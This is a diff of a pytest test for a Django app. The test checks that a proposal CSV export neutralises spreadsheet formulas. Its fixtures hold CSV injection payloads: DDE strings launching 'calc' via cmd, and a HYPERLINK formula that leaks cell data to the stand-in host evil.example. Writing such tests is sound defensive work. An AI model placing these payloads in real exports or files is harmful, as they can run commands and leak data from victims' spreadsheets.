@@ -53,17 +53,20 @@ def test_cross_site_text_plain_posts_neither_sign_in_register_nor_sign_out():
 
 @pytest.mark.django_db
 def test_proposal_csv_export_neutralises_formulas(make_user, make_room):
-    from proposals.services import proposal_create, vote_cast
+    from proposals.models import Proposal
+    from proposals.services import vote_cast
+    from tests.proposals.conftest import proposal_make
 
     author = make_user("=cmd|' /C calc'!A0")
     room = make_room(author)
-    proposal = proposal_create(
+    created = proposal_make(
         author=author,
-        room_id=room.id,
+        room=room.id,
         title="@SUM(1+1)*cmd|' /C calc'!A0",
         body="…",
-        choices=['=HYPERLINK("http://evil.example?x="&A1,"clic")', "+1+1", "-2", "\tTAB", "\rCR", "@A1"],
+        choices=['=HYPERLINK("http://evil.example?x="&A1,"clic")', "+1+1", "-2", "TAB", "\rCR", "@A1"],
     )
+    proposal = Proposal.objects.get(id=created["id"])
     vote_cast(user=author, proposal_id=proposal.id, choice="c1")
     export = Client().get(f"/api/proposals/{proposal.id}/export")
     assert export.status_code == 200
